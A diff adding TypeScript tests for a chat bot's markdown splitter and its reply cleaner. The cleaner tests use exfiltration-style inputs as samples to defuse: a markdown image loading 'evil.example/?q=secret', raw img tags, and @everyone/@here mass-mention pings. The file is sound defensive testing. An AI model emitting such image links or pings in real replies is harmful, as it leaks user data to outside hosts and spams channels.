@@ -1,0 +1,129 @@
+import assert from 'node:assert/strict'
+import fc from 'fast-check'
+import { cleanReply } from '../../src/chat/text/clean-reply.ts'
+import { splitMarkdown } from '../../src/chat/text/split-markdown.ts'
+import { verifies } from '../support/verifies.ts'
+
+const fence = '```'
+
+verifies('chat:splitting', 'a text that fits is one message, unchanged', () => {
+  assert.deepEqual(splitMarkdown('# Hi\n\n\n  there  ', 100), ['# Hi\n\n\n  there  '])
+})
+
+verifies('chat:splitting', 'code that fits into a message is never torn', () => {
+  const code = `${fence}ts\n${'const a = 1\n'.repeat(10)}${fence}`
+  const parts = splitMarkdown(`${'word '.repeat(30)}\n\n${code}\n\n${'word '.repeat(30)}`, 200)
+  assert.ok(parts.includes(code))
+})
+
+verifies('chat:splitting', 'code longer than a message is closed and opened again in its language', () => {
+  const lines = Array.from({ length: 60 }, (_, n) => `line ${n}`)
+  const parts = splitMarkdown(`${fence}sql\n${lines.join('\n')}\n${fence}`, 200)
+
+  assert.ok(parts.length > 2)
+  for (const part of parts) {
+    assert.ok(part.startsWith(`${fence}sql\n`) && part.endsWith(`\n${fence}`), part)
+    assert.ok(part.length <= 200)
+  }
+  assert.deepEqual(
+    parts.flatMap((part) => part.split('\n').slice(1, -1)),
+    lines,
+  )
+})
+
+verifies('chat:splitting', 'a list that fits stays whole, a longer one is cut between its items', () => {
+  const short = '- one\n- two\n  more of two\n\n- three'
+  assert.ok(splitMarkdown(`${'x'.repeat(90)}\n\n${short}`, 100).includes(short))
+
+  const items = Array.from({ length: 20 }, (_, n) => `${n}. item\n   with a second line`)
+  const parts = splitMarkdown(items.join('\n'), 120)
+  for (const part of parts) {
+    assert.match(part, /^\d+\. item/)
+    assert.match(part, /second line$/)
+  }
+})
+
+verifies('chat:splitting', 'a long table repeats its head', () => {
+  const rows = Array.from({ length: 30 }, (_, n) => `| ${n} | value |`)
+  const parts = splitMarkdown(['| id | name |', '| --- | --- |', ...rows].join('\n'), 150)
+  for (const part of parts) assert.ok(part.startsWith('| id | name |\n| --- | --- |\n| '))
+})
+
+verifies('chat:splitting', 'a heading is not left behind at the end of a message', () => {
+  const parts = splitMarkdown(`${'a'.repeat(80)}\n\n## Next\n\n${'b'.repeat(60)}`, 100)
+  assert.deepEqual(parts, ['a'.repeat(80), `## Next\n\n${'b'.repeat(60)}`])
+})
+
+verifies(
+  'chat:splitting',
+  'whatever the text: no part too long, no character lost, every fence closed',
+  () => {
+    const line = fc.oneof(
+      fc.string({ maxLength: 80 }).map((text) => text.replaceAll(/[\n`~]/g, '')),
+      fc.constantFrom(
+        '',
+        '```js',
+        '```',
+        '~~~',
+        '- item',
+        '  - nested',
+        '1. first',
+        '| a | b |',
+        '# Head',
+        '   ',
+      ),
+      fc.string({ unit: 'grapheme', maxLength: 400 }).map((text) => text.replaceAll(/[\n`~]/g, '')),
+    )
+    fc.assert(
+      fc.property(
+        fc.array(line, { maxLength: 40 }),
+        fc.integer({ min: 100, max: 400 }),
+        (lines, maxLength) => {
+          const text = lines.join('\n')
+          const parts = splitMarkdown(text, maxLength)
+          for (const part of parts) {
+            assert.ok(part.length <= maxLength)
+            assert.ok(part.isWellFormed() || !text.isWellFormed())
+            if (parts.length > 1) assert.ok(!endsInsideCode(part), part)
+          }
+          if (parts.length === 1) return
+          // Fences, heads of tables and blank space may be repeated or dropped; nothing else.
+          const letters = (string: string) => string.replaceAll(/[\s`~|#-]|js|a|b|Head/g, '')
+          assert.equal(letters(parts.join('')), letters(text))
+        },
+      ),
+      { numRuns: 300 },
+    )
+  },
+)
+
+verifies(
+  'runs:reply-hygiene',
+  'nobody is called by a model’s words, in any spelling, not even in code',
+  () => {
+    const bad = '@everyone @here `@channel` <!channel> <!here|here> <!subteam^S1> @Everyone'
+    const clean = cleanReply(bad)
+    assert.doesNotMatch(clean, /@(everyone|here|channel)/i)
+    assert.doesNotMatch(clean, /<!/)
+    assert.equal(cleanReply('mail me@hereford.example or @heretic'), 'mail me@hereford.example or @heretic')
+  },
+)
+
+verifies('runs:reply-hygiene', 'no remote image is loaded; code that shows one stays as it is', () => {
+  assert.equal(
+    cleanReply('see ![the chart](https://evil.example/?q=secret "t") now'),
+    'see the chart: https://evil.example/?q=secret now',
+  )
+  assert.equal(cleanReply('![x][ref] and ![y]'), 'x and y')
+  assert.doesNotMatch(cleanReply('a <img src="https://evil.example/x"> b'), /<img/)
+  const code = '```html\n<img src="x">\n```\nand `![a](b)`'
+  assert.equal(cleanReply(code), code)
+})
+
+verifies('runs:reply-hygiene', 'no odd image gets through, however often it is repeated', () => {
+  for (const piece of ['![', '![](', '![a](<', '<img ', '`', '@here', '[![', '![a][']) {
+    const clean = cleanReply(piece.repeat(100_000 / piece.length))
+    assert.doesNotMatch(clean.replaceAll(/`[^`]*`/g, ''), /!\[[^\]]*\]\(/)
+  }
+  assert.doesNotMatch(cleanReply(`![${'a'.repeat(400)}](https://evil.example)`), /!\[/)
+})
